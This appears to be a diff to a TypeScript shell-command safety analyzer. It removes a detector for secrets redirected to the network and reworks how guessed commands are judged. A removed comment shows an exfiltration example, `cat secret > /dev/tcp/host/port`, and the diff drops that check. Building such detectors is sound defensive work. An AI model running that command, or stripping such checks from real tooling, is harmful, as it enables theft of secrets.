@@ -12,13 +12,13 @@ import { onlySelects } from "../dangers/text/text.ts";
 import { type Call, useOf } from "../dangers/use.ts";
 import { variableEffects } from "../dangers/variables.ts";
 import { fileFinding } from "../judge/file-findings.ts";
-import { runsFlow, sendFinding } from "../judge/flow-findings.ts";
+import { runsFlow } from "../judge/flow-findings.ts";
 import { placeOf } from "../judge/place.ts";
 import { fetchedDescription } from "./descriptions.ts";
 import { type Draft, note, openDraft, outputOf, partOf } from "./draft.ts";
 import { applyEffects, keepBuilt, keepMade, touch } from "./effects.ts";
 import { fillsDisk, letsTooMuch, passesEndlessly } from "./endless.ts";
-import { criticalCommands, guessFinding, maySayRun } from "./guess.ts";
+import { criticalCommands, maySayRun } from "./guess.ts";
 import { overwritingFinding } from "./overwriting.ts";
 import type { Streams } from "./redirections.ts";
 import { addPart, doubt, mostWords, takeWords, type TracedUse } from "./report.ts";
@@ -34,7 +34,7 @@ import {
 import { followBuiltin } from "./state.ts";
 import { tellLoaded, type Walk } from "./walking.ts";
 import { commandAmong, isInstalled, nameOf, whoIs } from "./who.ts";
-import { type Flow, isLiteral, isUnknown, literal, type Word, withText } from "./word.ts";
+import { isLiteral, isUnknown, literal, type Word, withText } from "./word.ts";
 import { writtenFinding } from "./written-finding.ts";
 
 type Invocation = { variables: readonly Variable[]; streams?: Streams; isPlain: boolean };
@@ -60,7 +60,6 @@ export function invoke(
   const row = understand(draft, here);
   const redirected = (streams?.effects ?? []).flatMap((effect) => touchStream(effect, draft));
   finish(draft, row, redirected);
-  sendStreams(streams?.effects ?? [], draft.flows, draft);
   const isBare = (streams?.effects.length ?? 0) === 0;
   addPart(walk.report, partOf(draft, { isPlain: isPlain && isBare, row }));
   if (!walk.isGuess) walk.report.uses?.push(tracedUse(draft, row));
@@ -93,11 +92,10 @@ function withVariables(walk: Walk, variables: readonly Variable[]): Walk {
 }
 
 /** Applies the redirections of a group of commands, or those without a command: `> file`. */
-export function tellStreams({ effects }: Streams, walk: Walk, { flows }: Output = silent): void {
+export function tellStreams({ effects }: Streams, walk: Walk): void {
   if (effects.length === 0) return;
   const draft = openDraft([], [], walk);
   for (const effect of effects) touchStream(effect, draft);
-  sendStreams(effects, flows, draft);
   const path = effects.map((effect) => ("path" in effect ? effect.path.text : "")).join(" ");
   addPart(
     walk.report,
@@ -110,14 +108,6 @@ export function tellVariables(variables: readonly Variable[], walk: Walk): void 
   const draft = openDraft([], variables, walk);
   for (const variable of variables) applyEffects(variableEffects(variable), draft);
   if (draft.findings.length > 0) addPart(walk.report, partOf(draft, { isPlain: false, row: undefined }));
-}
-
-/** Output that a redirection sends: `cat secret > /dev/tcp/host/port`. */
-function sendStreams(effects: readonly Effect[], flows: ReadonlySet<Flow>, draft: Draft): void {
-  if (!flows.has("secret") && !flows.has("private")) return;
-  for (const effect of effects)
-    if (effect.type === "writes" && placeOf(effect.path.text, aroundOf(draft.walk.shell)).kind === "network")
-      note(draft, sendFinding({ to: effect.path, flows, files: [] }));
 }
 
 /** Returns the files that are opened for writing. */
@@ -182,6 +172,7 @@ function tellKnown(draft: Draft, here: Walk): Program | undefined {
 
 function loadFile(draft: Draft): void {
   const [path] = draft.words;
+  draft.walk.report.doesMore = true;
   if (path) applyEffects([{ type: "loads", path, language: "shell" }], draft);
 }
 
@@ -211,9 +202,8 @@ function tellRow(row: Program, draft: Draft, here: Walk): void {
   const runsOthers = effects.some(
     (effect) => (effect.type === "runs" && effect.isAmong !== true) || effect.type === "interprets",
   );
-  if (row.kind === "builds" || (row.kind === "wrapper" && !runsOthers))
-    applyEffects(criticalCommands(rest, walk, row.kind === "wrapper"), draft);
-  else if (!runsOthers && maySayRun(rest)) note(draft, guessFinding(rest, walk));
+  if (row.kind === "builds" || (!runsOthers && (row.kind === "wrapper" || maySayRun(rest))))
+    applyEffects(criticalCommands(rest, walk, row.kind !== "builds"), draft);
   tellUnlisted(row, effects, draft);
   if (/^(?::|true)$/u.test(name)) draft.text ??= literal("");
   const { text } = walk.input;
@@ -252,7 +242,7 @@ function tellUnlisted(row: Program, effects: readonly Effect[], draft: Draft): v
   if (row.kind === undefined || row.kind === "wrapper" || isRead) return;
   const code = evaluatedIn(rest).filter(({ text }) => /["'(]/u.test(text));
   if (code.length === 0) return;
-  note(draft, guessFinding(code, draft.walk));
+  applyEffects(criticalCommands(code, draft.walk, true), draft);
   applyEffects(
     code.map((one) => interprets("other", one)),
     draft,
@@ -266,8 +256,7 @@ function unknownProgram(draft: Draft, because: string): void {
   if (draft.walk.remote === "container") return; // an image brings its own programs
   note(draft, { severity: "high", because });
   if (draft.walk.isGuess) return;
-  const given = draft.walk.input.text ? [draft.walk.input.text] : [];
-  note(draft, guessFinding([...draft.words.slice(1), ...given], draft.walk));
+  applyEffects(criticalCommands(draft.words.slice(1), draft.walk, true), draft);
   const code = evaluatedIn(draft.words)
     .filter(({ text }) => text.length <= longestCode)
     .map((one) => interprets("other", one));
